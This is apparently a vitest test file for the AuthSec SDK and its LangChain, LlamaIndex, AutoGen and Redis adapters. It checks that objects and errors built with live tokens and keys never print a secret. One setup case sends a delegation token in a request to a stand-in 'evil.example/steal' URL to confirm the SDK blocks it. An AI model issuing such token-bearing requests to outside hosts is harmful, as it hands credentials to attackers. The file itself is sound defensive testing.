// Every public object and error class of the five packages, built with real secrets in play: no way of printing it shows one.

import { randomBytes } from 'node:crypto';
import * as autogen from '@authsec/autogen';
import * as core from '@authsec/core';
import * as langchain from '@authsec/langchain';
import * as langchainMiddleware from '@authsec/langchain/middleware';
import * as llamaindex from '@authsec/llamaindex';
import * as redisPackage from '@authsec/redis';
import type { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { type LeakEnvironment, startLeakEnvironment } from '../support/environment.js';
import { expectNoLeak } from '../support/secrets.js';
import { showEveryWay } from '../support/show.js';

const PACKAGES: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
  '@authsec/core': core,
  '@authsec/llamaindex': llamaindex,
  '@authsec/langchain': langchain,
  '@authsec/langchain/middleware': langchainMiddleware,
  '@authsec/autogen': autogen,
  '@authsec/redis': redisPackage,
};

type AnyClass = abstract new (...args: never[]) => unknown;

function isClass(value: unknown): value is AnyClass {
  return typeof value === 'function' && /^class\b/.test(Function.prototype.toString.call(value));
}

function isErrorClass(value: unknown): value is AnyClass {
  return isClass(value) && value.prototype instanceof Error;
}

/** Every distinct exported value (adapters re-export core's own objects), named by where it is first exported. */
function exportedValues(): Map<unknown, string> {
  const values = new Map<unknown, string>();
  for (const [pkg, namespace] of Object.entries(PACKAGES)) {
    for (const [name, value] of Object.entries(namespace)) {
      if (!values.has(value)) values.set(value, `${pkg} ${name}`);
    }
  }
  return values;
}

let env: LeakEnvironment;
/** The revoked-token error: the cause every constructed error carries. */
let revoked: unknown;
let redis: Redis;
/** Built objects by the export that made them (a class, or a function whose result is an object). */
const built = new Map<unknown, { label: string; value: unknown }[]>();
const closers: Array<() => Promise<unknown> | unknown> = [];

/** Errors from real failures with a token in play, by what failed. */
const realErrors: { label: string; error: unknown }[] = [];

async function failure(label: string, work: () => unknown): Promise<unknown> {
  try {
    await work();
  } catch (error) {
    realErrors.push({ label, error });
    return error;
  }
  throw new Error(`${label}: expected a failure, it succeeded`);
}

function keep(exported: unknown, label: string, value: unknown): void {
  const list = built.get(exported) ?? [];
  list.push({ label, value });
  built.set(exported, list);
}

/** Classes and functions whose objects carry no secret or need a framework run to exist, with why. */
const NOT_BUILT_HERE: ReadonlyMap<unknown, string> = new Map<unknown, string>([
  [core.expandPath, 'returns a path string built from its arguments; holds nothing'],
  [core.pathParameters, 'returns the parameter names of a path template; holds nothing'],
  [
    core.fingerprint,
    'its output is what the leak finder allows by design (checked in find-leaks.test.ts)',
  ],
  [core.redact, 'its output is checked in find-leaks.test.ts'],
  [core.isAuthSecError, 'a predicate'],
  [core.isFatalAuthSecError, 'a predicate'],
  [core.withErrorContext, 'its copies are checked with every error class below'],
  [core.readText, 'reads a Response body the caller already holds'],
  [core.requirePermissions, 'checks claims the caller already holds'],
  [
    core.verifyDelegationToken,
    'its claims and errors are checked through createDelegationTokenVerifier',
  ],
  [core.getDelegationToken, 'returns the token itself, by design (the default client is checked)'],
  [core.closeDefaultClient, 'closes the default client; returns nothing'],
  [llamaindex.normalizeClearance, 'maps a clearance name to its level; holds nothing'],
  [llamaindex.clearanceFilters, 'returns metadata filters built from clearance names'],
  [langchain.createAuthSecTool, 'its result is an AuthSecStructuredTool, built below'],
  [autogen.executeToolCalls, 'its tool messages are checked in adapter-results.test.ts'],
]);

beforeAll(async () => {
  env = await startLeakEnvironment();
  closers.push(() => env.close());
  redis = env.redis;
  const { demo, secrets } = env;
  const reader = demo.agents.reader;
  const options = {
    baseUrl: demo.authsec.url,
    clientId: reader.agent.clientId,
    sessionToken: reader.session.token,
    downstreamUrl: demo.api.url,
    headers: { 'x-api-key': env.apiKey },
    logLevel: 'silent',
    env: {},
  } as const;

  // A live client that has pulled a token and sent it.
  const client = new core.AuthSecClient(options);
  closers.push(() => client.close());
  secrets.add('pulled token', await client.getDelegationToken());
  await client.requestJson('/secure-vault/records');
  keep(core.AuthSecClient, 'a live client after a pull and a request', client);

  // A memory store holding that token, and a client whose token lives in Redis, sealed with a key.
  const memory = new core.MemoryTokenStore();
  const stored = new core.AuthSecClient({ ...options, store: memory });
  closers.push(() => stored.close());
  await stored.getDelegationTokenInfo();
  keep(core.MemoryTokenStore, 'a memory store holding a token', memory);
  const storeKey = randomBytes(32).toString('base64');
  const previousKey = randomBytes(32).toString('base64');
  secrets.add('AUTHSEC_STORE_KEY', storeKey).add('AUTHSEC_STORE_PREVIOUS_KEYS', previousKey);
  const store = new redisPackage.RedisTokenStore({
    redis,
    key: storeKey,
    previousKeys: [previousKey],
  });
  closers.push(() => store.close());
  const shared = new core.AuthSecClient({ ...options, store });
  closers.push(() => shared.close());
  await shared.getDelegationTokenInfo();
  keep(redisPackage.RedisTokenStore, 'a Redis store with a key, holding a token', store);
  keep(core.AuthSecClient, 'a client sharing its token through Redis', shared);

  // A mock client: its token is a JWT signed with a key the client generated.
  const mock = new core.AuthSecClient({ mode: 'mock', logLevel: 'silent', env: {} });
  closers.push(() => mock.close());
  secrets.add('mock token', await mock.getDelegationToken());
  keep(core.AuthSecClient, 'a mock client after a token', mock);

  // The default client, configured from the environment as users configure it.
  const saved = { ...process.env };
  Object.assign(process.env, reader.env, { AUTHSEC_LOG_LEVEL: 'silent' });
  try {
    const defaultClient = core.getDefaultClient();
    await defaultClient.getDelegationToken();
    keep(core.getDefaultClient, 'the default client after a pull', defaultClient);
  } finally {
    process.env = saved;
  }
  closers.push(() => core.closeDefaultClient());

  // The verifier and the claims it returns.
  const verifier = core.createDelegationTokenVerifier({
    baseUrl: demo.authsec.url,
    workspaceId: demo.authsec.workspaceId,
    audience: 'authsec-api',
    env: {},
  });
  keep(core.createDelegationTokenVerifier, 'a verifier', verifier);
  keep(
    core.createDelegationTokenVerifier,
    'verified claims',
    await verifier.verify(reader.delegation.token),
  );

  // LlamaIndex: readers after loading, the clearance gates.
  const llamaReader = new llamaindex.AuthSecReader({ client });
  await llamaReader.loadData({ endpoint: 'secure-vault/records', scope: 'read:records' });
  keep(llamaindex.AuthSecReader, 'a reader after loadData', llamaReader);
  const ownReader = new llamaindex.AuthSecSecureReader(options);
  closers.push(() => ownReader.client.close());
  await ownReader.loadData({ endpoint: 'secure-vault/metrics' });
  keep(llamaindex.AuthSecSecureReader, 'a reader with its own client after loadData', ownReader);
  keep(
    llamaindex.AuthSecClearancePostprocessor,
    'a postprocessor',
    new llamaindex.AuthSecClearancePostprocessor({ clearance: 'secret' }),
  );
  keep(llamaindex.ClearanceScale, 'a clearance scale', new llamaindex.ClearanceScale());

  // LangChain: a tool after a call, the middleware.
  const tool = langchain.createAuthSecRequestTool({
    name: 'list_vault_records',
    description: 'List the vault records.',
    schema: z.object({}),
    path: '/secure-vault/records',
    scope: 'read:records',
    client,
  });
  await tool.invoke({});
  keep(langchain.AuthSecStructuredTool, 'a request tool after a call', tool);
  keep(langchain.createAuthSecRequestTool, 'a request tool after a call', tool);
  keep(
    langchainMiddleware.authsecMiddleware,
    'the middleware',
    langchainMiddleware.authsecMiddleware(),
  );

  // AutoGen-style: a function, a function map after a call, the two agents.
  const fetchRecords = autogen.defineFunction(
    {
      name: 'fetch_records',
      description: 'The vault records.',
      parameters: z.object({}),
      scope: 'read:records',
    },
    (_args, { requestJson }) => requestJson('/secure-vault/records'),
  );
  keep(autogen.defineFunction, 'a defined function', fetchRecords);
  const functionMap = autogen.createFunctionMap([fetchRecords], { client });
  await functionMap.functionMap.fetch_records?.({});
  keep(autogen.createFunctionMap, 'a function map after a call', functionMap);
  keep(
    autogen.AssistantAgent,
    'an assistant with an API key in its LLM config',
    new autogen.AssistantAgent('assistant', {
      llmConfig: { config_list: [{ model: 'gpt-4o-mini', api_key: env.openAiKey }] },
    }),
  );
  keep(
    autogen.UserProxyAgent,
    'a user proxy with a function map',
    new autogen.UserProxyAgent('user_proxy', { functionMap }),
  );

  // Real failures, each with a token (and a session, a key) in play.
  const { writer, billing } = demo.agents;
  await failure('a 403 from the API (scope not delegated)', () =>
    client.request('/billing/customers/42'),
  );
  await failure('an origin not allowed, the token in its query string', () =>
    client.fetch(`https://evil.example/steal?access_token=${reader.delegation.token}`),
  );
  const writerClient = new core.AuthSecClient({
    ...options,
    clientId: writer.agent.clientId,
    sessionToken: writer.session.token,
  });
  closers.push(() => writerClient.close());
  secrets.add('writer pulled token', await writerClient.getDelegationToken());
  demo.authsec.revoke(writer.agent.clientId);
  revoked = await failure('a revoked token: 401 from the API, then 404 from AuthSec', () =>
    writerClient.request('/secure-vault/records'),
  );
  demo.authsec.revokeSession(billing.session.token);
  await failure('a revoked session credential: 401 from AuthSec', () =>
    new core.AuthSecClient({
      ...options,
      clientId: billing.agent.clientId,
      sessionToken: billing.session.token,
    }).getDelegationToken(),
  );
  await failure('a network error, the token ready to send', () =>
    new core.AuthSecClient({ ...options, downstreamUrl: 'http://127.0.0.1:1' }).request('/x'),
  );
  await failure(
    'a token pasted where the client id goes, and a session credential as the URL',
    () =>
      new core.AuthSecClient({
        baseUrl: `https://user:${reader.session.token}@authsec.example/?token=${reader.delegation.token}`,
        clientId: reader.delegation.token,
        sessionToken: reader.session.token,
        env: {},
      }).getDelegationToken(),
  );
  const tampered = `${reader.delegation.token.slice(0, -6)}AAAAAA`;
  await failure('a token whose signature does not verify', () => verifier.verify(tampered));
  const closed = new core.AuthSecClient(options);
  await closed.close();
  await failure('a closed client', () => closed.getDelegationToken());
}, 120_000);

afterAll(async () => {
  for (const close of closers.reverse()) await close();
});

describe('every export of the five packages is covered', () => {
  it('each class and each function that returns an object is built below, or listed with a reason', () => {
    const missing: string[] = [];
    for (const [value, name] of exportedValues()) {
      if (typeof value !== 'function' || isErrorClass(value)) continue;
      if (!built.has(value) && !NOT_BUILT_HERE.has(value)) missing.push(name);
    }
    expect(missing).toEqual([]);
  });
});

describe('public objects with secrets in play: inspect, JSON, String, template literals and console.log show none', () => {
  it('every object built from an export', () => {
    expect(built.size).toBeGreaterThanOrEqual(15);
    for (const kind of [
      'mock token',
      'AUTHSEC_STORE_KEY',
      'gateway API key',
      'OpenAI key',
      'reader session credential',
    ]) {
      expect(env.secrets.count(kind), kind).toBe(1);
    }
    for (const [exported, objects] of built) {
      for (const { label, value } of objects) {
        for (const [how, text] of showEveryWay(value)) {
          expectNoLeak(`${exportedValues().get(exported)}: ${how}(${label})`, text, env.secrets);
        }
      }
    }
  });

  it('every exported constant', () => {
    for (const [value, name] of exportedValues()) {
      if (typeof value === 'function') continue;
      for (const [how, text] of showEveryWay(value))
        expectNoLeak(`${name}: ${how}`, text, env.secrets);
    }
  });
});

/** What each error class needs besides the shared options, to be built as the SDK builds it. */
const FIELDS: Readonly<Record<string, Record<string, unknown>>> = {
  AuthSecConfigError: {
    problems: ['clientId is missing: pass `clientId` or set `AUTHSEC_AGENT_CLIENT_ID`'],
  },
  AuthSecTimeoutError: { timeoutMs: 10_000 },
  AuthSecHttpError: { retryAfterMs: 2_000 },
  AuthSecRateLimitedError: { retryAfterMs: 2_000 },
  AuthSecPermissionError: { requiredScope: 'billing:read' },
  AuthSecPullForbiddenError: { requiredScope: 'agents:pull' },
  AuthSecNotAuthSecServerError: { baseUrl: 'https://authsec.example' },
  AuthSecDelegationExpiredError: { expiredAt: new Date() },
  AuthSecResponseError: { issues: ['expires_at'] },
  AuthSecTokenError: { reason: 'expired' },
  AuthSecTokenRejectedError: { jti: '2f1c9a52' },
  AuthSecOriginNotAllowedError: { origin: 'https://evil.example' },
};

/** An instance of an exported error class whose cause is the revoked-token failure. */
function buildError(Class: AnyClass, name: string): Error {
  if (Class === autogen.FunctionCallError) {
    return new autogen.FunctionCallError(
      'ERR_AUTOGEN_INVALID_ARGUMENTS',
      'customer_id is missing.',
      {
        hint: 'Pass customer_id.',
        issues: ['customer_id: Required'],
      },
    );
  }
  if (Class === autogen.AuthSecToolCallsError) {
    return autogen.AuthSecToolCallsError.fromErrors([revoked as core.AuthSecError], [], ['call_1']);
  }
  const Built = Class as unknown as new (message: string, options: object) => Error;
  return new Built(`${name}: the vault records could not be loaded.`, {
    status: 401,
    method: 'GET',
    path: '/secure-vault/records',
    hint: 'See the errors table in the README.',
    cause: revoked,
    ...FIELDS[name],
  });
}

describe('every exported error class, with a failure that had a token in play as its cause', () => {
  it('is built, alone and through withErrorContext, and shows no secret any way it is printed', () => {
    const classes = [...exportedValues()].filter(([value]) => isErrorClass(value));
    expect(classes.length).toBeGreaterThanOrEqual(21);
    expect(revoked).toBeInstanceOf(core.AuthSecDelegationNotFoundError);
    for (const [Class, label] of classes) {
      // The export's name: a transpiled class may call itself `_AuthSecConfigError`.
      const name = label.slice(label.lastIndexOf(' ') + 1);
      const error = buildError(Class as AnyClass, name);
      expect(error).toBeInstanceOf(Class as AnyClass);
      const withContext = core.withErrorContext(error, 'While loading the vault records');
      for (const [which, value] of [
        ['alone', error],
        ['withErrorContext', withContext],
      ] as const) {
        for (const [how, text] of showEveryWay(value)) {
          expectNoLeak(`${label} (${which}): ${how}`, text, env.secrets);
        }
        if (core.isAuthSecError(value))
          expectNoLeak(`${label}: toJSON`, JSON.stringify(value.toJSON()), env.secrets);
      }
    }
  });
});

describe('errors from real failures with a token, a session credential and keys in play', () => {
  it('show no secret any way they are printed, nor in toJSON or their stack', () => {
    expect(realErrors.map((e) => e.label)).toHaveLength(8);
    for (const { label, error } of realErrors) {
      expect(core.isAuthSecError(error), label).toBe(true);
      for (const [how, text] of showEveryWay(error))
        expectNoLeak(`${label}: ${how}`, text, env.secrets);
      const { stack } = error as Error;
      expectNoLeak(`${label}: stack`, String(stack), env.secrets);
    }
  });
});
